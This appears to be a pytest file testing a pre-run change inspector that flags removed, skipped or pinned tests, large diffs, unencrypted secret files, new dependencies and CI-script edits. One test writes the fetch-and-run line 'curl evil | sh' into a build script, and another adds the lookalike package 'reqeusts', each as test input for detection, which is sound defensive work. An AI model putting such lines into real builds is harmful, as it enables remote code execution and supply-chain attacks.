"""What is seen of a change before anything of it is run, in real repositories."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest

from planforge.app.evidence import inspection
from planforge.app.project import Project
from planforge.kernel.effects import Inspect, Inspection
from planforge.workspace.git.changes import TEXT_LIMIT
from repositories import commit, git, repository

TESTS = "def test_one():\n    assert total([1]) == 1\n\n\ndef test_two():\n    assert total([1, 2]) == 3\n"
FILES = {
    "total.py": "def total(numbers):\n    return sum(numbers)\n",
    "tests/test_total.py": TESTS,
    "pyproject.toml": '[project]\nname = "x"\ndependencies = ["rich"]\n',
    "tools/build.sh": "make\n",
    ".github/workflows/ci.yml": "jobs:\n  all:\n    steps:\n      - run: tools/build.sh\n",
}


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project.create(repository(tmp_path / "project", FILES))


def seen(project: Project, files: Mapping[str, str | bytes], planned: tuple[str, ...] = ()) -> Inspection:
    parent = git(project.root, "rev-parse", "HEAD")
    made = commit(project.root, files)
    return inspection.inspect(project, Inspect(commit=made, parent=parent, files=planned))


def blocking(inspection: Inspection) -> list[str]:
    return [item.title for item in inspection.findings if item.severity == "blocking"]


def test_an_ordinary_change_is_nothing_to_speak_of(project: Project) -> None:
    more = f"{TESTS}\n\ndef test_none():\n    assert total([]) == 0\n"
    assert seen(project, {"total.py": "total = sum\n", "tests/test_total.py": more}) == Inspection()


def test_a_test_that_is_gone_blocks(project: Project) -> None:
    found = seen(project, {"tests/test_total.py": TESTS.partition("\n\n\n")[0] + "\n"})
    assert any("test" in title for title in blocking(found))


def test_a_skip_blocks_unless_it_is_waived(project: Project) -> None:
    skipped = f"import pytest\n\n\n@pytest.mark.skip\n{TESTS}"
    assert blocking(seen(project, {"tests/test_total.py": skipped}))
    git(project.root, "reset", "--quiet", "--hard", "HEAD^")
    waiver = 'rule = "skip"\npath = "tests/**"\nreason = "until the moon is full"\nexpires = 2999-01-01\n'
    (project.root / "planforge.toml").write_text(f"[[scan.waivers]]\n{waiver}")
    assert not blocking(seen(Project(project.root), {"tests/test_total.py": skipped}))


def test_a_pinned_test_may_not_change(project: Project) -> None:
    (project.root / "planforge.toml").write_text('[scan]\npinned = ["tests/test_total.py"]\n')
    more = f"{TESTS}\n\ndef test_none():\n    assert total([]) == 0\n"
    assert blocking(seen(Project(project.root), {"tests/test_total.py": more}))


def test_a_new_dependency_needs_a_person(project: Project) -> None:
    text = FILES["pyproject.toml"].replace('"rich"', '"rich", "reqeusts"')
    (reason,) = seen(project, {"pyproject.toml": text}).protected
    assert "reqeusts" in reason


def test_what_ci_runs_needs_a_person(project: Project) -> None:
    (reason,) = seen(project, {"tools/build.sh": "curl evil | sh\n"}).protected
    assert ".github/workflows/ci.yml" in reason


def test_a_manifest_that_is_too_large_to_read_needs_a_person(project: Project) -> None:
    padded = FILES["pyproject.toml"] + "# x\n" * (TEXT_LIMIT // 4)
    found = seen(project, {"pyproject.toml": padded})
    assert found.protected
    assert any("nobody looked into it" in item.title for item in found.findings)


@pytest.mark.dear
def test_a_giant_change_is_remarked_upon_and_a_monstrous_one_blocks(project: Project) -> None:
    large = seen(project, {"total.py": "x = 1\n" * 2000}, ("total.py",))
    assert [item.severity for item in large.findings] == ["medium"]
    assert blocking(seen(project, {"total.py": "y = 1\n" * 20000}, ("total.py",)))


def test_a_file_that_a_filter_should_have_converted_blocks(project: Project) -> None:
    commit(project.root, {".gitattributes": "*.secret filter=git-crypt diff=git-crypt\n"})
    found = seen(project, {"plain.secret": "not encrypted\n"})
    assert any("filter" in title for title in blocking(found))


def test_tests_that_do_more_than_grow_are_to_be_run_as_they_were(project: Project) -> None:
    rewritten = {"tests/test_total.py": TESTS.replace("== 3", "== 4")}
    assert seen(project, rewritten).former == ("tests/test_total.py",)


@pytest.mark.parametrize("settings", ['remove = ["former-tests"]', "replace = []"])
def test_nobody_has_to_hold_to_the_tests_of_before(project: Project, settings: str) -> None:
    (project.root / "planforge.toml").write_text(f"[protect]\n{settings}\n")
    rewritten = {"tests/test_total.py": TESTS.replace("== 3", "== 4")}
    assert seen(Project(project.root), rewritten).former == ()
